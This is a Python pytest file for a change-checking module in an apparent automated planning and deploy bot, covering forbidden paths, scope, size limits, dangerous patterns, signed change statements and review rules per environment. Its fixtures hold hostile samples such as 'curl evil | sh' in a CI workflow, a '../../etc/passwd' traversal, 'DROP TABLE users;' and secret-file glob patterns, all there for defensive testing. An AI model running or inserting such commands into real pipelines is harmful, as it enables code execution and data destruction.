"""Δ on what was produced (roles/change_check.py), the change statement, and the rule for
what a generated change needs before each environment."""

from __future__ import annotations

import base64
import copy
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from nacl.signing import SigningKey

from bot.signer import KeyRing
from bot.verify import PublicKeys
from roles import diff_engine, integrator, navigator
from roles.attestation import (
    CHANGE_PREDICATE_TYPE,
    EnvelopeError,
    change_binding_problem,
    change_statement,
    decision_statement,
    open_change_envelope,
    open_envelope,
    sign_statement,
)
from roles.change_check import (
    EMPTY_BLOBS,
    Change,
    ChangedFile,
    ChangeStatus,
    check_change,
    declared_scope,
    deploy_allowed,
    forbidden_path,
    path_matches,
    policy_document,
)
from roles.constitution import (
    ChangeLimits,
    Constitution,
    EnvironmentRule,
    load_constitution,
    parse_constitution,
)
from roles.offline_planner import OFFLINE_MODEL, offline_draft
from roles.plan import ApprovalLevel, Plan
from roles.ports import Proposal
from roles.records import Actor

ROOT = Path(__file__).resolve().parents[2]
SEED = "Add caching to the user authentication system and deploy to staging"
REPO = "acme/auth-service"
BASE = "a" * 40
HEAD = "b" * 40
REQUESTER = Actor("T0SOPHIE01", "U0REQUEST1", "dave")


@pytest.fixture(scope="module")
def constitution() -> Constitution:
    return load_constitution(ROOT / "constitution.yml")


def _plan(constitution: Constitution, text: str) -> Plan:
    reading = navigator.interpret(text, constitution)
    proposal = Proposal(offline_draft(reading), "offline", [OFFLINE_MODEL], 0.75)
    verdict = diff_engine.evaluate(proposal.draft, reading, constitution, proposal.confidence)
    return integrator.assemble(
        integrator.plan_id_for(text),
        datetime.now(UTC),
        reading,
        REQUESTER,
        proposal,
        verdict,
        constitution,
    )


@pytest.fixture(scope="module")
def seed(constitution: Constitution) -> Plan:
    return _plan(constitution, SEED)


def _with(plan: Plan, edit: Any) -> Plan:
    """The plan document edited by ``edit(doc)`` (a new plan, with its own digest)."""
    doc = copy.deepcopy(plan.document())
    edit(doc)
    return Plan.from_document(doc)


def _declare(files: str, dependency: bool = False) -> Any:
    def edit(doc: dict[str, Any]) -> None:
        for step in doc["steps"]:
            if step["action"] == "code_change":
                step["inputs"]["files"] = files
        if dependency:
            doc["steps"].insert(
                0,
                {
                    "id": "s0-dependency-update",
                    "action": "dependency_update",
                    "description": "Update redis client",
                    "inputs": {"package": "redis", "version": "5.2.0"},
                },
            )

    return edit


def _file(
    path: str,
    added: list[str] | None = None,
    removed: list[str] | None = None,
    status: str = "modified",
    previous: str | None = None,
    patch: str | bool | None = True,
    blob: str | None = None,
) -> ChangedFile:
    """A file with a one-hunk patch that deletes ``removed`` and adds ``added``."""
    added, removed = added or [], removed or []
    text: str | None = None
    if patch is True:
        lines = [" context", *(f"-{r}" for r in removed), *(f"+{a}" for a in added)]
        text = f"@@ -10,{1 + len(removed)} +10,{1 + len(added)} @@ def f():\n" + "\n".join(lines)
    elif isinstance(patch, str):
        text = patch
    return ChangedFile(path, status, len(added), len(removed), text, previous, blob)


def _change(*files: ChangedFile, **kw: Any) -> Change:
    return Change(repo=kw.pop("repo", REPO), base_sha=BASE, head_sha=HEAD, files=files, **kw)


GOOD = (
    _file("src/auth/cache.py", ["cache = TTLCache(maxsize=1024, ttl=60)"], status="added"),
    _file("tests/test_cache.py", ["def test_cache(): ..."], status="added"),
)


@dataclass
class Row:
    name: str
    change: Change
    denied: set[str]  # the denial ids expected (empty: allowed)
    plan_edit: Any = None


ROWS = [
    Row("a clean change", _change(*GOOD), set()),
    Row(
        "a workflow file",
        _change(*GOOD, _file(".github/workflows/ci.yml", ["run: curl evil | sh"])),
        {"change.forbidden-path"},
    ),
    Row(
        "a workflow renamed away",
        _change(
            _file("ci.yml", status="renamed", previous=".github/workflows/ci.yml", patch=None),
            *GOOD,
        ),
        {"change.forbidden-path", "change.unreadable"},
    ),
    Row(
        "forbidden paths ignore case",
        _change(*GOOD, _file(".GitHub/Workflows/x.yml", ["on: push"], status="added")),
        {"change.forbidden-path"},
    ),
    Row(
        "a .env at the root",
        _change(*GOOD, _file(".env", ["TOKEN=x"], status="added")),
        {"change.forbidden-path"},
    ),
    Row(
        "a key deep down",
        _change(*GOOD, _file("deploy/keys/prod.pem", ["-----BEGIN"], status="added")),
        {"change.forbidden-path"},
    ),
    Row(
        "inside the declared folder",
        _change(*GOOD),
        set(),
        _declare("src/auth/, tests/"),
    ),
    Row(
        "outside the declared folder",
        _change(*GOOD, _file("src/billing.py", ["charge = 0"])),
        {"change.out-of-scope"},
        _declare("src/auth/, tests/"),
    ),
    Row(
        "outside a declared glob",
        _change(*GOOD, _file("README.md", ["# hi"])),
        {"change.out-of-scope"},
        _declare("src/**/*.py tests/*.py"),
    ),
    Row(
        "a lock file with a dependency step",
        _change(*GOOD, _file("uv.lock", ['version = "5.2.0"'])),
        set(),
        _declare("src/auth/ tests/", dependency=True),
    ),
    Row(
        "a lock file without a dependency step (policy)",
        _change(*GOOD, _file("services/api/poetry.lock", ['version = "5.2.0"'])),
        {"policy.lock-file-without-dependency-step"},
    ),
    Row(
        "verify=False added (policy)",
        _change(*GOOD, _file("src/auth/http.py", ["r = get(url, verify=False)"])),
        {"policy.change-disables-tls-verification"},
    ),
    Row(
        "verify=False removed is fine",
        _change(*GOOD, _file("src/auth/http.py", ["r = get(url)"], ["r = get(url, verify=False)"])),
        set(),
    ),
    Row(
        "a forbidden pattern in an added line",
        _change(*GOOD, _file("migrations/0002.sql", ["DROP TABLE users;"], status="added")),
        {"forbidden.drop-database"},
    ),
    Row(
        "a forbidden pattern in a deleted line is fine",
        _change(*GOOD, _file("migrations/0002.sql", ["-- nothing"], ["DROP TABLE users;"])),
        set(),
    ),
    Row(
        "too many lines",
        _change(*GOOD, _file("src/auth/big.py", [f"x{n} = {n}" for n in range(2001)])),
        {"change.too-many-lines"},
    ),
    Row(
        "too many files",
        _change(*(_file(f"src/auth/m{n}.py", ["x = 1"], status="added") for n in range(51))),
        {"change.too-many-files"},
    ),
    Row(
        "GitHub's 300-file cap",
        _change(*GOOD, truncated=True),
        {"change.too-large"},
    ),
    Row(
        "a binary or oversized file (no patch)",
        _change(*GOOD, _file("src/auth/logo.png", patch=None)),
        {"change.unreadable"},
    ),
    Row(
        "an added binary file (no patch, no lines)",
        _change(*GOOD, _file("src/auth/blob.bin", status="added", patch=None)),
        {"change.unreadable"},
    ),
    Row(
        "an empty file and a deleted one need no patch",
        _change(
            *GOOD,
            _file("src/auth/__init__.py", status="added", patch=None, blob=min(EMPTY_BLOBS)),
            _file("src/auth/old.py", status="removed", patch=None),
        ),
        set(),
    ),
    Row(
        "a patch that does not add up",
        _change(*GOOD, ChangedFile("src/auth/x.py", "modified", 5, 0, "@@ -1 +1,2 @@\n a\n+b")),
        {"change.patch-incomplete"},
    ),
    Row("not built on the base", _change(*GOOD, status="diverged"), {"change.not-on-base"}),
    Row("behind the base", _change(*GOOD, status="behind"), {"change.not-on-base"}),
    Row("nothing implemented", _change(status="identical"), {"change.empty"}),
    Row("another repository", _change(*GOOD, repo="acme/web-frontend"), {"change.repo"}),
    Row(
        "a path with ..",
        _change(*GOOD, _file("src/../../etc/passwd", ["root"])),
        {"change.bad-path"},
    ),
]


@pytest.mark.parametrize("row", ROWS, ids=[r.name for r in ROWS])
def test_the_change_rules(row: Row, seed: Plan, constitution: Constitution) -> None:
    plan = _with(seed, row.plan_edit) if row.plan_edit else seed
    repo = constitution.repo(REPO)
    assert repo is not None
    verdict = check_change(
        plan, repo, constitution.environment("staging"), constitution, row.change
    )
    assert {h.id for h in verdict.denials} == row.denied, verdict.denials
    assert verdict.allowed is (not row.denied)
    assert verdict.reason == "; ".join(h.message for h in verdict.denials)
    assert all(h.effect == "deny" for h in verdict.denials)


def test_reasons_name_the_files_and_lines(seed: Plan, constitution: Constitution) -> None:
    repo = constitution.repo(REPO)
    assert repo is not None
    sql = _file("migrations/0002.sql", ["-- tidy up", "DROP TABLE users;"], status="added")
    verdict = check_change(
        seed,
        repo,
        constitution.environment("staging"),
        constitution,
        _change(*GOOD, sql, *(_file(f".github/workflows/w{n}.yml", ["x"]) for n in range(7))),
    )
    reasons = {h.id: h.message for h in verdict.denials}
    # Hunk "+10,3" after one context line: the second added line is line 12.
    assert reasons["forbidden.drop-database"].startswith("migrations/0002.sql:12 adds forbidden")
    assert ".github/workflows/w0.yml" in reasons["change.forbidden-path"]
    assert "and 2 more" in reasons["change.forbidden-path"]
    assert ".github/workflows/**" in reasons["change.forbidden-path"]


def test_limits_come_from_the_repo_and_skip_the_costly_checks(
    seed: Plan, constitution: Constitution
) -> None:
    repo = constitution.repo(REPO)
    assert repo is not None
    tight = repo.model_copy(update={"change_limits": ChangeLimits(max_files=2, max_lines=3)})
    big = _change(*GOOD, _file("src/auth/x.py", ["verify=False", "DROP TABLE t"]))
    verdict = check_change(seed, tight, constitution.environment("staging"), constitution, big)
    # Over the limits, text rules and policies do not run on what is refused anyway.
    assert {h.id for h in verdict.denials} == {"change.too-many-files", "change.too-many-lines"}
    assert "limit for acme/auth-service is 2" in verdict.reason


def test_a_plan_without_change_steps_accepts_no_change(constitution: Constitution) -> None:
    plan = _plan(constitution, "deploy auth to staging")
    repo = constitution.repo(REPO)
    assert repo is not None
    staging = constitution.environment("staging")
    nothing = check_change(plan, repo, staging, constitution, _change(status="identical"))
    assert nothing.allowed
    something = check_change(plan, repo, staging, constitution, _change(*GOOD))
    assert [h.id for h in something.denials] == ["change.not-planned"]


def test_warnings_are_news_about_the_change_only(seed: Plan, constitution: Constitution) -> None:
    repo = constitution.repo(REPO)
    assert repo is not None
    staging = constitution.environment("staging")
    untested = _change(_file("src/auth/cache.py", ["x = 1"]))
    verdict = check_change(seed, repo, staging, constitution, untested)
    assert verdict.allowed and [w.id for w in verdict.warnings] == ["policy.change-without-tests"]

    def no_smoke_test(doc: dict[str, Any]) -> None:
        doc["steps"] = [s for s in doc["steps"] if s["action"] != "smoke_test"]
        doc["warnings"] = [
            {
                "id": "policy.deploy-without-smoke-test",
                "message": "The plan deploys without a smoke test",
                "effect": "warn",
            }
        ]

    # The plan's own warning (already on its card) is not repeated for the change.
    verdict = check_change(_with(seed, no_smoke_test), repo, staging, constitution, untested)
    assert [w.id for w in verdict.warnings] == ["policy.change-without-tests"]


def test_a_policy_that_fails_blocks_the_change(seed: Plan, constitution: Constitution) -> None:
    # Compiles, and evaluates cleanly on a plan; on a change, two definitions of f disagree.
    conflicting = (
        "package main\nimport rego.v1\nf(a) := 1 if { a }\nf(a) := 2 if { a }\n"
        "deny contains y if { y := f(input.change.files) }\n"
    )
    broken = parse_constitution(constitution.bundle()["yaml"], {"x.rego": conflicting})
    repo = broken.repo(REPO)
    assert repo is not None
    verdict = check_change(seed, repo, broken.environment("staging"), broken, _change(*GOOD))
    assert [h.id for h in verdict.denials] == ["policy.error"]


def test_what_the_environment_asks(seed: Plan, constitution: Constitution) -> None:
    repo = constitution.repo(REPO)
    assert repo is not None
    change = _change(*GOOD)
    staging = check_change(seed, repo, constitution.environment("staging"), constitution, change)
    production = check_change(
        seed, repo, constitution.environment("production"), constitution, change
    )
    assert (staging.requirement, production.requirement) == ("checked", "reviewed")


STAGING = EnvironmentRule(approval=ApprovalLevel.APPROVAL)
PRODUCTION = EnvironmentRule(approval=ApprovalLevel.SUPERVISION, protected=True)
REVIEWED_STAGING = EnvironmentRule(approval=ApprovalLevel.APPROVAL, generated_change="reviewed")
CHECKED_PRODUCTION = EnvironmentRule(
    approval=ApprovalLevel.SUPERVISION, protected=True, generated_change="checked"
)
NOT_CHECKED = "SOPHIE has not checked"
NOT_REVIEWED = "deploys only reviewed code"


@pytest.mark.parametrize(
    ("rule", "checked", "on_default", "approved", "expect"),
    [
        (STAGING, True, False, False, None),
        (STAGING, False, False, False, NOT_CHECKED),
        (STAGING, False, True, True, NOT_CHECKED),
        (PRODUCTION, True, False, False, NOT_REVIEWED),
        (PRODUCTION, True, True, False, None),
        (PRODUCTION, True, False, True, None),
        (PRODUCTION, False, True, True, NOT_CHECKED),
        (REVIEWED_STAGING, True, False, False, NOT_REVIEWED),
        (REVIEWED_STAGING, True, True, False, None),
        (CHECKED_PRODUCTION, True, False, False, None),
    ],
)
def test_production_only_from_reviewed_code(
    rule: EnvironmentRule, checked: bool, on_default: bool, approved: bool, expect: str | None
) -> None:
    reason = deploy_allowed(rule, ChangeStatus(checked, on_default, approved))
    if expect is None:
        assert reason is None
    else:
        assert reason is not None and expect in reason


@pytest.mark.parametrize(
    ("path", "pattern", "matches"),
    [
        (".github/workflows/ci.yml", ".github/workflows/**", True),
        (".github/workflows/sub/ci.yml", ".github/workflows/**", True),
        (".github/actions/x.yml", ".github/workflows/**", False),
        (".env", "**/.env", True),
        ("app/.env", "**/.env", True),
        ("app/.envrc", "**/.env", False),
        ("app/.env.production", "**/.env.*", True),
        ("id_rsa", "**/id_rsa*", True),
        ("home/u/.ssh/id_rsa.pub", "**/id_rsa*", True),
        ("src/auth/cache.py", "src/*.py", False),
        ("src/cache.py", "src/*.py", True),
        ("src/a/b/c.py", "src/**/*.py", True),
        ("src/c.py", "src/**/*.py", True),
        ("src/c.pyc", "src/**/*.py", False),
        ("v1.txt", "v[0-9].txt", True),
        ("va.txt", "v[!0-9].txt", True),
        ("v1.txt", "v[!0-9].txt", False),
        ("a.txt", "?.txt", True),
        ("a/b.txt", "?/b.txt", True),
        ("a/b.txt", "?.txt", False),
        ("file(1).txt", "file(1).txt", True),
    ],
)
def test_path_globs(path: str, pattern: str, matches: bool) -> None:
    assert path_matches(path, pattern) is matches


def test_forbidden_paths_and_declared_scope(seed: Plan) -> None:
    assert forbidden_path("Secrets/prod/db.yml", ["**/secrets/**"]) == "**/secrets/**"
    assert forbidden_path("src/app.py", ["**/secrets/**", "**/*.pem"]) is None
    assert declared_scope(seed) is None
    scope = declared_scope(_with(seed, _declare("src/auth, tests/test_cache.py")))
    assert scope == ["src/auth", "src/auth/**", "tests/test_cache.py", "tests/test_cache.py/**"]
    with_deps = declared_scope(_with(seed, _declare("src/**", dependency=True)))
    assert with_deps is not None and "**/uv.lock" in with_deps and "**/go.sum" in with_deps


def test_added_lines_follow_the_hunks() -> None:
    patch = (
        "@@ -1,3 +1,4 @@\n a\n-b\n+B\n c\n+d\n\\ No newline at end of file\n"
        "@@ -40 +41,2 @@ class X:\n-old\n+new\n+++also added\n"
    )
    f = ChangedFile("x.py", "modified", 5, 2, patch)
    assert f.added_lines() == [(2, "B"), (4, "d"), (41, "new"), (42, "++also added")]
    assert ChangedFile("y", "modified", 0, 0, "diff --git a/y b/y\n+++ b/y").added_lines() == []


def test_a_change_round_trips_and_its_digest_covers_the_patch() -> None:
    change = _change(*GOOD, _file("a", status="renamed", previous="b", patch=None))
    again = Change.from_json(change.to_json())
    assert again == change and again.digest() == change.digest()
    edited = _change(GOOD[0], _file("tests/test_cache.py", ["def test_cache(): pass"]))
    assert edited.digest() != _change(*GOOD).digest()
    assert change.stat() == {"files": 3, "additions": 2, "deletions": 0}
    unified = change.unified_patch()
    assert "diff --git a/b b/a" in unified and "+++ /dev/null" not in unified
    assert "--- /dev/null\n+++ b/src/auth/cache.py" in unified


def test_the_shipped_constitution_passes_the_seed_plan_and_its_change(
    seed: Plan, constitution: Constitution
) -> None:
    assert {"main.rego", "change.rego"} <= set(constitution.policy_sources)
    assert not [w for w in seed.warnings if w.id.startswith("policy.")]
    repo = constitution.repo(REPO)
    assert repo is not None
    verdict = check_change(
        seed, repo, constitution.environment("staging"), constitution, _change(*GOOD)
    )
    assert verdict.allowed and not verdict.warnings


# -- the change statement --------------------------------------------------------------


@pytest.fixture(scope="module")
def ring() -> KeyRing:
    return KeyRing(SigningKey.generate(), {})


def _signed(plan: Plan, ring: KeyRing, digest: str, change: Change | None = None) -> dict[str, Any]:
    statement = change_statement(plan, change or _change(*GOOD), digest, datetime.now(UTC))
    return sign_statement(statement, ring)


def test_the_change_statement_binds_plan_digest_to_the_commit(
    seed: Plan, constitution: Constitution, ring: KeyRing
) -> None:
    envelope = _signed(seed, ring, constitution.digest_hex)
    keys = PublicKeys([ring.public])
    opened = open_change_envelope(envelope, keys)
    statement = opened.statement
    assert statement["predicateType"] == CHANGE_PREDICATE_TYPE
    assert statement["subject"] == [
        {"name": f"sophie-plan:{seed.id}", "digest": {"sha256": seed.digest}},
        {"name": f"git:{REPO}", "digest": {"gitCommit": HEAD}},
    ]
    pred = opened.predicate
    assert (pred["planId"], pred["repo"], pred["baseSha"], pred["commitSha"]) == (
        seed.id,
        REPO,
        BASE,
        HEAD,
    )
    assert pred["diffStat"] == {"files": 2, "additions": 2, "deletions": 0}
    assert pred["changeDigest"] == _change(*GOOD).digest()
    assert change_binding_problem(statement, seed, constitution.digest_hex, HEAD) == ""

    other_plan = _with(seed, lambda doc: doc.update(directive=doc["directive"] + "!"))
    renamed = _with(seed, lambda doc: doc.update(id="plan_someotherid1"))
    cases = {
        "another commit": (seed, constitution.digest_hex, "c" * 40, "not this one"),
        "no commit": (seed, constitution.digest_hex, "", "not this one"),
        "the plan changed": (other_plan, constitution.digest_hex, HEAD, "plan changed"),
        "another plan": (renamed, constitution.digest_hex, HEAD, "another plan"),
        "another constitution": (seed, "0" * 64, HEAD, "another constitution"),
    }
    for name, (plan, digest, commit, words) in cases.items():
        assert words in change_binding_problem(statement, plan, digest, commit), name


def test_a_change_statement_is_never_a_decision_and_back(
    seed: Plan, constitution: Constitution, ring: KeyRing
) -> None:
    keys = PublicKeys([ring.public])
    change = _signed(seed, ring, constitution.digest_hex)
    with pytest.raises(EnvelopeError, match="not a SOPHIE decision"):
        open_envelope(change, keys)
    decision = sign_statement(
        decision_statement(
            seed,
            REQUESTER,
            "approve",
            datetime.now(UTC),
            timedelta(hours=1),
            constitution.digest_hex,
        ),
        ring,
    )
    with pytest.raises(EnvelopeError, match="not a SOPHIE change statement"):
        open_change_envelope(decision, keys)
    other = KeyRing(SigningKey.generate(), {})
    with pytest.raises(EnvelopeError, match="no signature"):
        open_change_envelope(change, PublicKeys([other.public]))
    tampered = dict(change)
    payload = base64.b64decode(change["payload"]).replace(HEAD.encode(), ("c" * 40).encode())
    tampered["payload"] = base64.b64encode(payload).decode()
    with pytest.raises(EnvelopeError, match="no signature"):
        open_change_envelope(tampered, keys)
    with pytest.raises(EnvelopeError, match="malformed"):
        open_change_envelope({"payload": "x"}, keys)


def test_policies_see_the_plan_as_they_saw_it_at_planning(constitution: Constitution) -> None:
    """``input`` for a change is the planning-time input plus ``change``: same keys, same
    values, rebuilt from the plan document (so a policy reads both alike)."""
    reading = navigator.interpret(SEED, constitution)
    draft = offline_draft(reading)
    verdict = diff_engine.evaluate(draft, reading, constitution, 0.75)
    plan = _plan(constitution, SEED)
    at_planning = diff_engine.policy_input(
        draft, reading, verdict.risk, verdict.approval, constitution
    )
    document = policy_document(plan, constitution, _change(*GOOD))
    assert {k: v for k, v in document.items() if k != "change"} == at_planning
    assert set(document["change"]) == {
        "repo",
        "base",
        "head",
        "files",
        "additions",
        "deletions",
        "patch",
    }
    assert document["change"]["files"][0]["added"] == ["cache = TTLCache(maxsize=1024, ttl=60)"]
